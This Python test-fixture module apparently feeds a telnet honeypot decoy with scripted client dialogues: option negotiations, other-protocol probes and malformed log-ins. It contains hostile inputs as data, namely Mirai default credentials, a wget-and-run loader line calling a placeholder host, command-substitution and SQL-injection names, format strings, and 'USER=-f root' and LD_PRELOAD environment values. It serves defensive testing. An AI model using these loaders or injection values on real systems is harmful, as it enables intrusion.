# SPDX-License-Identifier: MIT
"""What bots, clients and scanners of other protocols say to a telnetd, written before the decoy was looked at."""

from __future__ import annotations

from tests.decnet_decoys.services.dialogues import inetutils
from tests.decnet_decoys.services.dialogues.play import END, Kind, Step

_IAC, _WILL, _WONT, _DO, _DONT, _SB, _SE = 255, 251, 252, 253, 254, 250, 240
_SIZE = bytes((_IAC, _SB, 31, 0, 80, 0, 24, _IAC, _SE))


def _options(command: int, *numbers: int) -> bytes:
    return b"".join(bytes((_IAC, command, number)) for number in numbers)


def _about(option: int, said: bytes) -> bytes:
    return bytes((_IAC, _SB, option)) + said + bytes((_IAC, _SE))


def _command(*numbers: int) -> bytes:
    return b"".join(bytes((_IAC, number)) for number in numbers)


def _lines(*each: bytes) -> tuple[bytes, ...]:
    return tuple(line + b"\r\n" for line in each)


_PUTTY = _options(_WILL, 31, 32, 24, 39) + _options(_DO, 1) + _options(_WILL, 3) + _options(_DO, 3)
_LINUX = _options(_DO, 3) + _options(_WILL, 24, 31, 32, 33, 34, 39) + _options(_DO, 5)
_MIRAI = _lines(b"support", b"xc3511")
_STATES = _lines(b"enable", b"system", b"shell", b"sh", b"/bin/busybox MIRAI")

_OPENINGS: dict[str, tuple[Step, ...]] = {
    "PuTTY": (_PUTTY, _SIZE, b"support\r\n"),
    "telnet of Linux": (_LINUX, _SIZE, b"support\r\n"),
    "telnet of Windows": (_options(_WILL, 24, 31) + _options(_WONT, 32, 39), _SIZE, b"support\r\n"),
    "telnetlib": (_options(_WONT, 1, 31, 24, 32, 35, 39, 36) + _options(_DONT, 1, 3, 37, 38), b"support\n"),
    "netcat": (b"support\n", b"support\n"),
    "hydra": (_options(_WONT, 1, 31) + _options(_DONT, 1, 3), b"support\r", b"123456\r"),
    "all that came, sent back": (lambda seen: seen, b"support\r\n"),
    "names before options": (b"support\r\n" + _options(_WONT, 24, 32, 35, 39), b"x\r\n"),
    "RDP": (b"\x03\0\0\x13\x0e\xe0\0\0\0\0\0\x01\0\x08\0\x03\0\0\0",),
    "SMB": (b"\0\0\0\x2f\xffSMBr\0\0\0\0\x18\x01\x28" + bytes(20) + b"\r\n",),
    "Redis": (b"*1\r\n$4\r\ninfo\r\n",),
    "RTSP": (b"OPTIONS rtsp://192.0.2.1/ RTSP/1.0\r\nCSeq: 1\r\n\r\n",),
    "SIP": (b"OPTIONS sip:nm SIP/2.0\r\nVia: SIP/2.0/TCP nm;branch=foo\r\n\r\n",),
    "SMTP": (b"EHLO x\r\n", b"QUIT\r\n"),
    "a miner": (b'{"id":1,"method":"login","params":{"login":"x"}}\n',),
    "TLS": (bytes.fromhex("16030100c8010000c40303") + bytes(32) + b"\r\n",),
    "MGLNDD": (b"MGLNDD_192.0.2.1_23\n",),
    "help": (b"\r\n", b"help\r\n", b"?\r\n"),
    "a probe of nmap": (b"\r\n\r\n",),
}
_LOG_INS: dict[str, tuple[Step, ...]] = {
    "Mirai": (*_MIRAI, *_lines(b"support", b"vizxv")),
    "Mirai, which thinks it is in": (*_MIRAI, *_STATES),
    "states without a log-in": _STATES,
    "states at once": (b"enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox MIRAI\r\n",),
    "a loader": (b"cd /tmp || cd /var/run; wget http://192.0.2.1/a.sh; sh a.sh\r\n", b"\r\n"),
    "names by CR alone": (b"support\r", b"admin\r", b"support\r"),
    "names by LF alone": (b"support\n", b"admin\n", b"support\n"),
    "names by CR NUL": (b"support\r\0", b"admin\r\0", b"support\r\0"),
    "a password by CR NUL, a name by LF": (b"support\r\0", b"x\n", b"support\r\n"),
    "name and password in one segment, by LF": (b"support\nsupport\n",),
    "name and password in one segment, by CR NUL": (b"support\r\0root\r\0",),
    "six log-ins in one segment": (b"support\r\nx\r\n" * 6,),
    "ten empty lines": (b"\r\n" * 10,),
    "ten empty lines, one after the other": _lines(*[b""] * 10),
    "a name of blanks": (b"   \r\n", b"\t\r\n"),
    "a name with blanks behind": (b"support   \r\n", b"x\r\n"),
    "names of one letter": _lines(b"a", b"b", b"c", b"d"),
    "a name of symbols": (b"!@#$%^&*()\r\n", b"x\r\n"),
    "a name with a quote": (b"' or 1=1--\r\n", b"x\r\n"),
    "a name with a newline of its own": (b"ro\x0bot\r\n", b"x\r\n"),
    "a format as a name": (b"%n%n%s%x\r\n", b"x\r\n"),
    "a substitution as a name": (b"$(id)\r\n", b"`id`\r\n"),
    "a name of UTF-8": ("ünïcode\r\n".encode(), b"x\r\n"),
    "UTF-8 erased": ("aü".encode() + b"\x7fb\r\n", b"x\r\n"),
    "a name of 128 bytes": (b"n" * 128 + b"\r\n", b"x\r\n"),
    "a name of 256 bytes": (b"n" * 256 + b"\r\n", b"x\r\n"),
    "a name of 1024 bytes": (b"n" * 1024 + b"\r\n", b"x\r\n"),
    "a password of 128 bytes": (b"support\r\n", b"p" * 128 + b"\r\n", b"x\r\n"),
    "a password of 1024 bytes": (b"support\r\n", b"p" * 1024 + b"\r\n"),
    "a password of UTF-8": (b"support\r\n", "pässword\r\n".encode()),
    "a password with ^U": (b"support\r\n", b"abc\x15def\r\n"),
    "a password with ^W": (b"support\r\n", b"abc def\x17\r\n"),
    "a password with ^V": (b"support\r\n", b"a\x16\x03b\r\n"),
    "a password with arrows": (b"support\r\n", b"\x1b[A\x1b[D\r\n"),
    "a password, letter by letter": (b"support\r\n", b"t", b"o", b"o", b"r", b"\r\n"),
    "a password in two halves": (b"support\r\n", b"ro", b"ot\r\n"),
    "^C at the first prompt": (b"\x03",),
    "^C, ^C": (b"\x03", b"\x03"),
    "^C after a wrong log-in": (*_MIRAI, b"\x03"),
    "^D after a wrong log-in": (*_MIRAI, b"\x04"),
    "^D after an empty name": (b"\r\n", b"\x04"),
    "^Z at the password, more": (b"support\r\n", b"\x1ax\r\n"),
    "^O, ^T and ^Y": (b"a\x0f\x14\x19b\r\n",),
    "a bell and form feed": (b"a\x07\x0cb\r\n",),
    "are you there at the password": (b"support\r\n", _command(246), b"x\r\n"),
    "break at the password": (b"support\r\n", _command(243)),
    "interrupt at the password": (b"support\r\n", _command(244)),
    "interrupt at an empty prompt": (_command(244),),
    "abort output at the password": (b"support\r\n", _command(245), b"x\r\n"),
    "erase at the password": (b"support\r\n", b"ab" + _command(247) + b"c" + _command(248) + b"d\r\n"),
    "suspend": (_command(237), b"a\r\n"),
    "end of record": (_command(239) + b"a\r\n",),
    "NOPs, a hundred": (_command(*[241] * 100) + b"a\r\n",),
    "a window at the password": (b"support\r\n", _options(_WILL, 31) + _SIZE, b"x\r\n"),
    "a window of 1 by 1": (_options(_WILL, 31) + _about(31, b"\0\1\0\1"), b"support\r\n"),
    "a terminal told unasked": (_about(24, b"\0vt100"), b"support\r\n"),
    "the terminal asked of the server": (_about(24, b"\1"), b"support\r\n"),
    "an environment told unasked": (_about(39, b"\0\0USER\1root"), b"support\r\n"),
    "a speed told unasked": (_about(32, b"\x009600,9600"), b"support\r\n"),
    "line mode offered": (_options(_WILL, 34) + _about(34, b"\1\3"), b"support\r\n"),
    "compression asked": (_options(_DO, 85, 86) + _options(_WILL, 86), b"support\r\n"),
    "START_TLS offered": (_options(_WILL, 46) + _about(46, b"\1"), b"support\r\n"),
    "authentication told unasked": (_about(37, b"\0\0\0"), b"support\r\n"),
    "encryption told unasked": (_about(38, b"\0\1"), b"support\r\n"),
    "an option back and forth": (_options(_WILL, 24) + _options(_WONT, 24) + _options(_WILL, 24), b"support\r\n"),
    "echo asked of the client": (_options(_WILL, 1), b"support\r\n"),
    "end after a wrong log-in": (*_MIRAI, END),
    "end within a password": (b"support\r\n", b"ab", END),
    "end after options": (_options(_WONT, 31), END),
}
_ENVIRONMENTS: dict[str, tuple[bytes, ...]] = {
    "USER of -f root": (b"\0\0USER\1-f root",),
    "USER of root": (b"\0\0USER\1root",),
    "USER that is empty": (b"\0\0USER\1",),
    "LD_PRELOAD": (b"\0\0LD_PRELOAD\1/tmp/x.so\0LD_LIBRARY_PATH\1/tmp",),
    "a variable without a value": (b"\0\0TERM\3X",),
    "a value with an escape": (b"\0\0A\1\2\1b",),
    "an environment told twice": (b"\0\0A\1b", b"\2\0A\1c"),
}
_WILLING = _options(_DONT, 37, 38) + _options(_WONT, 24, 32, 35, 36) + _options(_WILL, 39)
_PLAIN, _ECHOED = inetutils.STARTED[1:]

KIND = Kind(_OPENINGS | _LOG_INS, (), most=4)
INETUTILS = Kind(
    _OPENINGS
    | {name: (*inetutils.STARTED, *steps) for name, steps in _LOG_INS.items()}
    | {
        name: (_WILLING, *(_about(39, one) for one in told), _PLAIN, _ECHOED, b"x\r\n")
        for name, told in _ENVIRONMENTS.items()
    },
    inetutils.VARIES,
    most=6,
)
